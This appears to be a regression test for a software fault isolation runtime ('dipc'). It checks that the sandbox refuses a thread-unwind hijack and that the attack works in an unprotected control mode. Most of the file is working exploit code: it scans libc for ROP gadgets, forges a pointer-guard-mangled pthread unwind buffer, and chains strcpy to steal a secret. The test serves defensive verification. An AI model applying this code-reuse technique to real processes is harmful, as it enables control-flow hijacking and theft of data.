// Thread cancellation's unwinding jumps with libc's own longjmp, past the
// loader's longjmp family, to the context a cleanup buffer holds.
// `evil` forges a __pthread_unwind_buf_t (glibc's mangling: the pointer
// guard is in the TCB) and calls libc's exported __pthread_unwind_next
// with it: libc resumes the forged context, a fake stack of evil's whose
// chain runs libc's strcpy on vault's secret, unchecked. Under `sfi`
// instrumented code may not start that unwinding (loader/sfi_callbacks.c):
// refused, main gets DIPC_EFAULT. Control: `none`, where the chain runs.
// RUN: %dipc-clang -fdipc -fdipc-sfi -O2 %s -o %t.sfi -lpthread
// RUN: %dipc-bin-dir/dipc-run --backend=sfi %t.sfi 2>&1 | FileCheck %s --check-prefix=SFI
// RUN: %dipc-bin-dir/dipc-run --backend=none %t.sfi 2>&1 | FileCheck %s --check-prefix=STOLEN
// SFI-NOT: stole
// SFI: dipc: sfi: __pthread_unwind_next refused to the running domain (it would undo the isolation)
// SFI: attack returned 0, dipc_errno 14
// SFI-NEXT: nothing stolen
// STOLEN: hijacked: stole 'vault-secret-42'
#include "Inputs/vault.h"
#include "Inputs/pointer-guard.h"

#include <elf.h>
#include <link.h>
#include <pthread.h>
#include <setjmp.h>
#include <unistd.h>

enum { JB_RBX, JB_RBP, JB_R12, JB_R13, JB_R14, JB_R15, JB_RSP, JB_PC };

static char stash[64];
static uintptr_t fake_stack[64] __attribute__((aligned(16)));
static __pthread_unwind_buf_t forged, outer;

static void report(void) {
  char line[128];
  int n = snprintf(line, sizeof line, "hijacked: stole '%s'\n", stash);
  (void)!write(STDOUT_FILENO, line, (size_t)n);
  _exit(0);
}

/* The first occurrence of the 2 bytes b0 b1 in libc's executable segment. */
static uintptr_t gadget(unsigned char b0, unsigned char b1) {
  Dl_info info;
  if (!dladdr((void *)__pthread_unwind_next, &info))
    return 0;
  const unsigned char *base = info.dli_fbase;
  const ElfW(Ehdr) *eh = (const void *)base;
  const ElfW(Phdr) *ph = (const void *)(base + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; i++) {
    if (ph[i].p_type != PT_LOAD || !(ph[i].p_flags & PF_X))
      continue;
    const unsigned char *p = base + ph[i].p_vaddr;
    for (size_t k = 0; k + 1 < ph[i].p_filesz; k++)
      if (p[k] == b0 && p[k + 1] == b1)
        return (uintptr_t)(p + k);
  }
  return 0;
}

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)mode, (void)aux, (void)key, (void)loot;
  uintptr_t pop_rdi = gadget(0x5f, 0xc3), pop_rsi = gadget(0x5e, 0xc3);
  uintptr_t ret = pop_rdi + 1;
  if (!pop_rdi || !pop_rsi) {
    printf("no gadgets\n");
    return 1;
  }
  /* rsp0 = 8 mod 16, so that strcpy and report start aligned. */
  uintptr_t *s = &fake_stack[33];
  s[0] = (uintptr_t)stash;
  s[1] = pop_rsi;
  s[2] = (uintptr_t)secret;
  s[3] = (uintptr_t)strcpy;
  s[4] = ret;
  s[5] = (uintptr_t)report;
  long *jb = forged.__cancel_jmp_buf[0].__cancel_jmp_buf;
  jb[JB_RSP] = (long)glibc_mangle((uintptr_t)s);
  jb[JB_RBP] = (long)glibc_mangle(0);
  jb[JB_PC] = (long)glibc_mangle(pop_rdi);
  forged.__cancel_jmp_buf[0].__mask_was_saved = 0;
  outer.__pad[0] = &forged; /* priv.data.prev */
  fflush(stdout);
  __pthread_unwind_next(&outer);
}

int main(void) { return run_attack("unwind", NULL); }
